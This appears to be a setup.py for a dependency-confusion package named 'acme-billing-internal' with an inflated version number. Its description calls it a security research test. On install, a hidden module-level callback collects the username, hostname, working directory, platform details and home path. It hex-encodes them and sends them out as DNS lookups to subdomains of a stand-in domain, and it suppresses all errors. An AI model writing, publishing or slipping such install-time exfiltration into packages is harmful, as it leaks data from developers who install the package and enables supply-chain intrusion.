import getpass
import os
import platform
import random
import socket

from setuptools import setup

DOMAIN = "d.pkg-resolver.example"


def _labels(data: bytes, size: int = 60):
    text = data.hex()
    return [text[i:i + size] for i in range(0, len(text), size)]


def _callback():
    try:
        info = "|".join([
            "acme-billing-internal", getpass.getuser(), socket.gethostname(), os.getcwd(),
            platform.node(), platform.platform(), os.path.expanduser("~"),
        ]).encode()
        session = "%06x" % random.randrange(16 ** 6)
        chunks = _labels(info)
        for index, chunk in enumerate(chunks):
            # <chunk>.<index>-<total>.<session>.d.pkg-resolver.example
            name = f"{chunk}.{index}-{len(chunks)}.{session}.{DOMAIN}"
            try:
                socket.gethostbyname(name)
            except OSError:
                pass
    except Exception:
        pass


_callback()

setup(
    name="acme-billing-internal",
    version="99.1.0",
    packages=["acme_billing_internal"],
    description="Internal package. Security research: this package is a dependency confusion test.",
)
